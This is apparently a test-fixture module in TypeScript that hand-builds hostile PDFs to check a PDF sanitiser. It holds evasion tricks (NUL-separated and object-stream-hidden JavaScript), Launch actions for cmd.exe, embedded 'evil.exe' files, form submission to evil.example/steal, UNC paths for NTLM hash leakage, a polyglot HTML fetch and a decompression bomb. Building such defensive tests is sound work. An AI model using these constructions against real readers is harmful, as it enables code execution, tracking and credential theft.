import { deflateSync } from "node:zlib";

/**
 * A corpus of hostile PDFs, written by hand so each carries exactly the trick it is named for
 * (issue #14 finding 2, docs/decisions/0051). Every document has one page whose text reads
 * {@link VISIBLE_TEXT}, so a test can check the readable part survives sanitising.
 */
export const VISIBLE_TEXT = "Hostile but readable";

type Obj = string | Buffer;

/** Objects numbered from 1 in order; a plain xref table; `trailerExtra` adds to the trailer. */
export function buildPdf(objects: Obj[], opts: { trailerExtra?: string; version?: string } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from(`%PDF-${opts.version ?? "1.7"}\n%\xe2\xe3\xcf\xd3\n`, "latin1")];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(length);
    const body = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, "latin1"),
      typeof o === "string" ? Buffer.from(o, "latin1") : o,
      Buffer.from("\nendobj\n", "latin1"),
    ]);
    parts.push(body);
    length += body.length;
  });
  let tail = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) tail += `${String(off).padStart(10, "0")} 00000 n \n`;
  tail += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${opts.trailerExtra ?? ""}>>\nstartxref\n${length}\n%%EOF\n`;
  parts.push(Buffer.from(tail, "latin1"));
  return Buffer.concat(parts);
}

export function stream(dict: string, data: Buffer | string, compress = false): Buffer {
  const raw = typeof data === "string" ? Buffer.from(data, "latin1") : data;
  const body = compress ? deflateSync(raw) : raw;
  const filter = compress ? " /Filter /FlateDecode" : "";
  return Buffer.concat([
    Buffer.from(`<< ${dict}${filter} /Length ${body.length} >>\nstream\n`, "latin1"),
    body,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

const CONTENT = `BT /F1 24 Tf 20 100 Td (${VISIBLE_TEXT}) Tj ET`;

/**
 * Objects 1 to 5: catalog (with `catalogExtra`), pages, one page (with `pageExtra`), its font and
 * its content. Further objects start at 6.
 */
function basic(
  catalogExtra = "",
  pageExtra = "",
  extra: Obj[] = [],
  trailerExtra?: string,
  resourcesExtra = "",
): Buffer {
  return buildPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
      `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Resources << /Font << /F1 4 0 R >> ${resourcesExtra} >> /Contents 5 0 R ${pageExtra} >>`,
      `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
      stream("", CONTENT, true),
      ...extra,
    ],
    { trailerExtra },
  );
}

const JS = "/S /JavaScript /JS (app.alert\\('owned'\\))";
const ATTACHMENT = `<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 7 0 R >> >>`;
const ATTACHED_FILE = stream("/Type /EmbeddedFile", "MZ pretend executable");

/** Each finding's case and each kind of active content the brief names, by name. */
export const HOSTILE_PDFS: Record<string, () => Buffer> = {
  // Finding 2 as reported: NUL is PDF whitespace, not JS `\s`, so a regex saw no /JavaScript.
  "NUL-separated JavaScript OpenAction": () =>
    basic("/OpenAction 6 0 R", "", ["<<\0/Type\0/Action\0/S\0/JavaScript\0/JS\0(app.alert\\(1\\))\0>>"]),
  "NUL-separated /ObjStm hiding JavaScript": () => {
    const inner = `7 0 << /Type /Action ${JS} >>`;
    return basic("/OpenAction 7 0 R", "", [stream("/Type\0/ObjStm\0/N 1\0/First 4", inner, true)]);
  },
  "OpenAction Launch": () =>
    basic("/OpenAction 6 0 R", "", ["<< /Type /Action /S /Launch /F (C:\\\\Windows\\\\calc.exe) /NewWindow true >>"]),
  "EmbeddedFiles name tree with a URI OpenAction": () =>
    basic("/OpenAction 8 0 R /Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>", "", [
      ATTACHMENT,
      ATTACHED_FILE,
      "<< /Type /Action /S /URI /URI (https://evil.example/payload) >>",
    ]),
  "XFA form with a script in the AcroForm": () =>
    basic("/AcroForm << /Fields [] /XFA 6 0 R /NeedsRendering true >>", "", [
      stream(
        "",
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><script contentType="application/x-javascript">app.alert(1)</script></subform></template></xdp:xdp>',
      ),
    ]),
  "OpenAction JavaScript": () => basic("/OpenAction 6 0 R", "", [`<< /Type /Action ${JS} >>`]),
  "Names JavaScript tree": () => basic("/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", "", [`<< ${JS} >>`]),
  "catalog /AA": () => basic("/AA << /WC 6 0 R >>", "", [`<< ${JS} >>`]),
  "page /AA": () => basic("", "/AA << /O 6 0 R /C 6 0 R >>", [`<< /Type /Action ${JS} >>`]),
  "annotation with /Launch": () =>
    basic("", "/Annots [6 0 R]", [
      "<< /Type /Annot /Subtype /Link /Rect [0 0 400 200] /A << /S /Launch /F (cmd.exe) >> >>",
    ]),
  "Link whose URI is javascript:": () =>
    basic("", "/Annots [6 0 R]", [
      "<< /Type /Annot /Subtype /Link /Rect [0 0 400 200] /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>",
    ]),
  "annotation with a JavaScript action and /AA": () =>
    basic("", "/Annots [6 0 R]", [
      `<< /Type /Annot /Subtype /Link /Rect [0 0 400 200] /A << ${JS} >> /AA << /E << ${JS} >> >> >>`,
    ]),
  "FileAttachment annotation": () =>
    basic("", "/Annots [8 0 R]", [
      ATTACHMENT,
      ATTACHED_FILE,
      "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R /Contents (open me) >>",
    ]),
  "widget with a JavaScript action in an AcroForm": () =>
    basic("/AcroForm << /Fields [6 0 R] >>", "/Annots [6 0 R]", [
      `<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 100 20] /P 3 0 R /A << ${JS} >> /AA << /U << ${JS} >> >> >>`,
    ]),
  "SubmitForm, ImportData, GoToR, GoToE and Rendition links": () =>
    basic("", "/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R]", [
      "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/steal) >> >> >>",
      "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>",
      "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
      "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToE /T << /R /C /N (evil.pdf) >> /D [0 /Fit] >> >>",
      `<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >> >>`,
    ]),
  "outline with a JavaScript action": () =>
    basic("/Outlines 6 0 R", "", [
      "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
      `<< /Title (Click) /Parent 6 0 R /A << ${JS} >> >>`,
    ]),
  "object-stream-hidden JavaScript": () => {
    const inner = `7 0 << /Type /Action ${JS} >>`;
    return basic("/OpenAction 7 0 R", "", [stream("/Type /ObjStm /N 1 /First 4", inner, true)]);
  },
};

/** The page's resources name each of `objects` (numbered from 6) as an XObject /X6, /X7 …, drawn or not. */
function withXObjects(objects: Obj[]): Buffer {
  const names = objects.map((_, i) => `/X${i + 6} ${i + 6} 0 R`).join(" ");
  return basic("", "", objects, undefined, `/XObject << ${names} >>`);
}

const IMAGE = "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8";
const FORM = "/Type /XObject /Subtype /Form /BBox [0 0 10 10]";

/**
 * References to files outside the PDF: a viewer fetches them when the page is shown (tracking,
 * and on some Windows viewers an NTLM hash sent to a UNC path). One per way a dictionary can
 * name an outside file; the sanitiser must leave none.
 */
export const EXTERNAL_REFERENCE_PDFS: Record<string, () => Buffer> = {
  "image XObject whose data is an external /F URL (with /FFilter and /FDecodeParms)": () =>
    withXObjects([
      stream(`${IMAGE} /F (http://evil.example/track.png) /FFilter /DCTDecode /FDecodeParms << /K -1 >>`, "\x80"),
    ]),
  "image XObject whose /F is a URL file specification": () =>
    withXObjects([stream(`${IMAGE} /F << /FS /URL /F (http://evil.example/spec.png) >>`, "\x80")]),
  "image with an /OPI dictionary naming a UNC path": () =>
    withXObjects([
      stream(
        `${IMAGE} /OPI << /2.0 << /Type /OPI /Version 2.0 /F (\\\\\\\\evil.example\\\\share\\\\hi-res.tif) /Inks /full_color >> >>`,
        "\x80",
      ),
    ]),
  "reference XObject (/Ref) to a page of an external PDF": () =>
    withXObjects([stream(`${FORM} /Ref << /F (http://evil.example/other.pdf) /Page 0 >>`, "")]),
  "associated files (/AF) on a form XObject": () =>
    withXObjects([
      stream(`${FORM} /AF [7 0 R]`, ""),
      "<< /Type /Filespec /F (http://evil.example/af.xml) /UF (af.xml) /AFRelationship /Data >>",
    ]),
  "Launch, GoToR, URI and ImportData actions and a file specification under keys no list names": () =>
    withXObjects([
      stream(
        `${FORM} /Launcher << /S /Launch /Win << /F (cmd.exe) >> >> /Remote << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >> /Web << /Type /Action /S /URI /URI (http://evil.example/x) >> /Data << /S /ImportData /F (data.fdf) >> /Spec 7 0 R /Specs [7 0 R]`,
        "",
      ),
      "<< /Type /Filespec /F (\\\\\\\\evil.example\\\\share\\\\x) /EF << /F 8 0 R >> >>",
      stream("/Type /EmbeddedFile", "MZ pretend executable"),
    ]),
  "soft mask of an image read from an external file: URL": () =>
    withXObjects([stream(`${IMAGE} /SMask 7 0 R`, "\x80"), stream(`${IMAGE} /F (file:///C:/Windows/win.ini)`, "\x80")]),
};

/** A page with an ordinary https link (kept) beside the text. */
export function pdfWithWebLink(url = "https://example.org/drill?x=1"): Buffer {
  return basic("", "/Annots [6 0 R]", [
    `<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] /Border [0 0 1] /A << /S /URI /URI (${url}) >> >>`,
  ]);
}

/** Catalog and pages only: a `pages`-page document, each page sharing one content stream. */
export function pdfWithPages(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => `${i + 6} 0 R`).join(" ");
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
    stream("", CONTENT, true),
    `<< /Font << /F1 3 0 R >> >>`,
    ...Array.from(
      { length: pages },
      () => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Resources 5 0 R /Contents 4 0 R >>`,
    ),
  ]);
}

/** HTML behind the magic number, shaped like a PDF at both ends. */
export const HTML_AFTER_HEADER = Buffer.from(
  "%PDF-1.7\n1 0 obj\n<html><body><script>fetch('/api/me').then(r=>r.text()).then(alert)</script></body></html>\nendobj\n%%EOF\n",
  "latin1",
);

/** A decompression bomb in an object stream: a few KB that inflate to `mb` megabytes. */
export function objectStreamBomb(mb = 300): Buffer {
  return basic("", "", [stream("/Type /ObjStm /N 1 /First 4", Buffer.alloc(mb * 1024 * 1024, 0x20), true)]);
}

/** A catalog whose trailer names an encryption dictionary. */
export function encryptedPdf(): Buffer {
  return basic("", "", ["<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>"], "/Encrypt 6 0 R /ID [<00><00>]");
}
